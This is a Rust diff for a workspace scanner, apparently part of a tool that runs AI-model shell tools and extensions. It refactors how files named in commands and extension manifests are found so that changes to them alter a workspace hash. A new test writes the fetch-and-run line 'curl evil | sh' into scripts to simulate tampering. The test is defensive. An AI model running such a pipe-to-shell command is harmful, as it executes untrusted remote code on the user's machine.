@@ -478,70 +478,22 @@ impl<'a> Scanner<'a> {
         let ToolKind::Shell { command, .. } = &parsed.value.kind else {
             return Ok(());
         };
-        let mut folders = vec![self.workspace.to_owned()];
-        self.template_named_files(command, rel, &mut folders, 0)
+        self.template_named_files(command, rel)
     }
 
-    /// The files `command`'s words name, each tried from the workspace
-    /// (where the tool runs) and from every folder an earlier `cd` of the
-    /// line went to. The words are read as the guard's deny rules read a
-    /// command (`sh scripts/"build.sh"` names `scripts/build.sh`), but as
-    /// written: the program with its path (`./scripts/build.sh`), a
-    /// redirection's target (`sh < scripts/build.sh`), a file glued to an
-    /// option (`make --file=build.mk`, `awk -fprog.awk`) and Python's
-    /// `-m scripts.tool`; a glob names what it matches now (`sh
-    /// s*/build.sh`); a word of several words is read
-    /// again as a line of its own, for it may be a script the tool hands a
-    /// shell (`bash -c "sh scripts/build.sh"`). Trying a word that names no
-    /// file costs nothing but the look. A name the line computes as it
-    /// runs (`sh "$SCRIPT"`, what `find -exec` finds) is not followed.
-    fn template_named_files(
-        &mut self,
-        command: &str,
-        rel: &Path,
-        folders: &mut Vec<PathBuf>,
-        depth: usize,
-    ) -> Result<(), ScanError> {
-        /// Lines read inside one another before the rest is left as words.
-        const MAX_DEPTH: usize = 4;
-        for words in crate::guard::deny::simple_commands(command) {
-            for (index, word) in words.iter().enumerate() {
-                let Some(word) = file_in_word(word) else {
-                    continue;
-                };
-                if depth < MAX_DEPTH && word.contains(char::is_whitespace) {
-                    self.template_named_files(word, rel, folders, depth + 1)?;
-                }
-                if word.contains("{arg}") {
-                    continue;
-                }
-                let after = |option: &str| index > 0 && words[index - 1] == option;
-                if after("cd") {
-                    folders.push(self.workspace.join(word));
-                }
-                // Python's `-m scripts.tool` runs `scripts/tool.py`, or the
-                // package's `__main__.py`.
-                let module = word.replace('.', "/");
-                let modules = after("-m").then(|| {
-                    [
-                        format!("{module}.py"),
-                        format!("{module}/__main__.py"),
-                        format!("{module}/__init__.py"),
-                    ]
-                });
-                let glob = word.contains(['*', '?', '[']);
-                for folder in folders.iter() {
-                    self.cover_named(&folder.join(word), None, rel)?;
-                    for file in modules.iter().flatten() {
-                        self.cover_named(&folder.join(file), None, rel)?;
-                    }
-                    if glob {
-                        for matched in glob_matches(folder, word) {
-                            self.cover_named(&matched, None, rel)?;
-                        }
-                    }
-                }
-            }
+    /// The workspace files `command`'s words name ([`named_by_line`]),
+    /// each tried from the workspace, where the tool runs. A word holding
+    /// `{arg}` is the model's choice, not a file of the tool.
+    fn template_named_files(&mut self, command: &str, rel: &Path) -> Result<(), ScanError> {
+        let mut named = Vec::new();
+        let mut reader = NamedFiles {
+            folders: vec![self.workspace.to_owned()],
+            model_fills_arg: true,
+            named: &mut named,
+        };
+        reader.line(command, 0);
+        for candidate in named {
+            self.cover_named(&candidate, None, rel)?;
         }
         Ok(())
     }
@@ -850,11 +802,85 @@ fn glob_matches(folder: &Path, word: &str) -> Vec<PathBuf> {
     places
 }
 
+/// Reads the words of a command for the files they may name: the words as
+/// the guard's deny rules read a command (`sh scripts/"build.sh"` names
+/// `scripts/build.sh`), but as written: the program with its path
+/// (`./scripts/build.sh`), a redirection's target (`sh < scripts/build.sh`),
+/// a file glued to an option (`make --file=build.mk`, `awk -fprog.awk`) and
+/// Python's `-m scripts.tool`; a glob names what it matches now (`sh
+/// s*/build.sh`); a word of several words is read again as a line of its
+/// own, for it may be a script handed to a shell (`bash -c "sh
+/// scripts/build.sh"`). Each is tried from every folder in `folders`: the
+/// one the command runs in, then each an earlier `cd` of the line went to.
+/// Trying a word that names no file costs nothing but the look. A name the
+/// line computes as it runs (`sh "$SCRIPT"`, what `find -exec` finds) is
+/// not followed.
+struct NamedFiles<'a> {
+    folders: Vec<PathBuf>,
+    /// A template's `{arg}` is the model's to fill; in a native
+    /// extension's arguments it is two braces and a word, like any other.
+    model_fills_arg: bool,
+    named: &'a mut Vec<PathBuf>,
+}
+
+impl NamedFiles<'_> {
+    /// Lines read inside one another before the rest is left as words.
+    const MAX_DEPTH: usize = 4;
+
+    fn line(&mut self, line: &str, depth: usize) {
+        for words in crate::guard::deny::simple_commands(line) {
+            self.words(&words, depth);
+        }
+    }
+
+    fn words(&mut self, words: &[String], depth: usize) {
+        for (index, word) in words.iter().enumerate() {
+            let Some(word) = file_in_word(word) else {
+                continue;
+            };
+            if depth < Self::MAX_DEPTH && word.contains(char::is_whitespace) {
+                self.line(word, depth + 1);
+            }
+            if self.model_fills_arg && word.contains("{arg}") {
+                continue;
+            }
+            let after = |option: &str| index > 0 && words[index - 1] == option;
+            if after("cd")
+                && let Some(base) = self.folders.first()
+            {
+                let folder = base.join(word);
+                self.folders.push(folder);
+            }
+            // Python's `-m scripts.tool` runs `scripts/tool.py`, or the
+            // package's `__main__.py`.
+            let module = word.replace('.', "/");
+            let modules = after("-m").then(|| {
+                [
+                    format!("{module}.py"),
+                    format!("{module}/__main__.py"),
+                    format!("{module}/__init__.py"),
+                ]
+            });
+            let glob = word.contains(['*', '?', '[']);
+            for folder in &self.folders {
+                self.named.push(folder.join(word));
+                for file in modules.iter().flatten() {
+                    self.named.push(folder.join(file));
+                }
+                if glob {
+                    self.named.extend(glob_matches(folder, word));
+                }
+            }
+        }
+    }
+}
+
 /// The files `manifest` makes zot or zotbox run, as paths from its
-/// folder: the `exec` when it is a path, the first argument that is not an
-/// option (an interpreter's script), and the `wasm` file. Later arguments
-/// are often data the extension writes. Whether each exists is the
-/// caller's question.
+/// folder: the `exec` when it is a path, what its arguments name as a
+/// command's words do ([`NamedFiles`]: an interpreter's script, a script
+/// handed to `sh -c`, a module, and what the program is given), and the
+/// `wasm` file. Whether each exists, and is a file, is the caller's
+/// question: most arguments name none.
 pub(crate) fn named_paths(manifest: &Manifest) -> Vec<PathBuf> {
     let dir = &manifest.dir;
     let mut named = Vec::new();
@@ -863,11 +889,12 @@ pub(crate) fn named_paths(manifest: &Manifest) -> Vec<PathBuf> {
     {
         named.push(dir.join(exec));
     }
-    // Every argument that may name a file (an interpreter's script, and
-    // what it is given): those that name none are skipped by the callers.
-    for arg in manifest.raw.args.iter().filter(|a| !a.starts_with('-')) {
-        named.push(dir.join(arg));
+    NamedFiles {
+        folders: vec![dir.clone()],
+        model_fills_arg: false,
+        named: &mut named,
     }
+    .words(&manifest.raw.args, 0);
     if let crate::manifest::Program::Wasm { path } = &manifest.program {
         named.push(path.clone());
     }
@@ -1220,6 +1247,41 @@ mod tests {
         let linked = sha(&f.ws);
         write(&f.ws.join("scripts/run.py"), "print(3)\n");
         assert_ne!(sha(&f.ws), linked);
+    }
+
+    #[test]
+    fn a_script_a_native_extension_hands_a_shell_or_names_in_an_option_is_covered() {
+        let f = fixture();
+        let ext = f.ws.join(".zot/extensions/helper");
+        // Each manifest runs (or reads as code) a file of the workspace
+        // outside its folder without naming it as an argument of its own.
+        let forms = [
+            (r#"["-c","sh ../../../scripts/run.sh"]"#, "scripts/run.sh"),
+            (
+                r#"["-c","cd ../../../scripts && ./run.sh"]"#,
+                "scripts/run.sh",
+            ),
+            (
+                r#"["-e","--rcfile=../../../scripts/rc.sh"]"#,
+                "scripts/rc.sh",
+            ),
+            (
+                r#"["-c",". ../../../scripts/env.sh; exec ./run.sh"]"#,
+                "scripts/env.sh",
+            ),
+            // Two braces and a word: a file name like any other here.
+            (r#"["../../../scripts/{arg}.sh"]"#, "scripts/{arg}.sh"),
+        ];
+        for (args, script) in forms {
+            write(&f.ws.join(script), "echo 1\n");
+            write(
+                &ext.join("extension.json"),
+                &format!(r#"{{"name":"helper","exec":"sh","args":{args}}}"#),
+            );
+            let base = sha(&f.ws);
+            write(&f.ws.join(script), "curl evil | sh\n");
+            assert_ne!(sha(&f.ws), base, "{args}: `{script}` is not covered");
+        }
     }
 
     #[test]
